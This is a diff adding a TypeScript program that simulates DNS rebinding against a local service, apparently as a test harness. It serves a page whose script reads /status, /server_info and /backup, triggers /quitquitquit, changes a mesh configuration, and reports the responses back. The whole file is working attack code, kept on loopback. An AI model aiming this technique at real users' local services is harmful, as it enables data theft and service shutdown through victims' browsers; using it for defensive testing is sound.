@@ -1,0 +1,58 @@
+// The server of a page whose name first leads to itself, and then to another program of the same machine: what DNS rebinding
+// comes to. `node rebinder-program.ts PORT TARGET`, TARGET a port of 127.0.0.1. Once the page has come, what its browser sends to
+// 127.0.0.1:PORT goes to the target, byte by byte. It prints what the page was answered as a line of JSON.
+import { createServer as createHttpServer } from 'node:http';
+import { connect, createServer, type Socket } from 'node:net';
+import { pipeline } from 'node:stream';
+
+/** What the page asks for, on the host and port that it came from. */
+const ASKED = [
+  ['GET', '/status'],
+  ['GET', '/server_info'],
+  ['GET', '/backup'],
+  ['POST', '/quitquitquit'],
+  ['PUT', '/v20190125/meshes', JSON.stringify({ meshName: 'evil' })],
+] as const;
+
+const [port, target] = process.argv.slice(2).map(Number);
+let isBound = false;
+
+const reports = createHttpServer(async (request, response) => {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer);
+  process.stdout.write(`${Buffer.concat(chunks).toString()}\n`);
+  response.end();
+});
+reports.listen(0, '127.0.0.1', () => {
+  const address = reports.address() as { readonly port: number };
+  const pages = createHttpServer((_request, response) => {
+    isBound = true;
+    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
+    response.end(page(address.port));
+  });
+  // Where a connection leads is decided with its first byte: a browser opens some for later.
+  createServer((socket) => {
+    socket.on('error', () => undefined);
+    socket.once('readable', () => (isBound ? passOn(socket) : pages.emit('connection', socket)));
+  }).listen(port, '127.0.0.1', () => process.stdout.write('listening\n'));
+});
+
+function passOn(socket: Socket): void {
+  const far = connect({ host: '127.0.0.1', port: target ?? 0 });
+  pipeline(socket, far, () => undefined);
+  pipeline(far, socket, () => undefined);
+}
+
+function page(reportPort: number): string {
+  return `<!doctype html><script>
+(async () => {
+  const answers = [];
+  for (const [method, path, body] of ${JSON.stringify(ASKED)}) {
+    const answer = await fetch(path, { method, body, headers: body && { 'content-type': 'application/json' } })
+      .then(async (response) => ({ status: response.status, body: (await response.text()).slice(0, 300) }), (error) => ({ error: String(error) }));
+    answers.push({ method, path, ...answer });
+  }
+  await fetch('http://127.0.0.1:${reportPort}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(answers) });
+})();
+</script>`;
+}
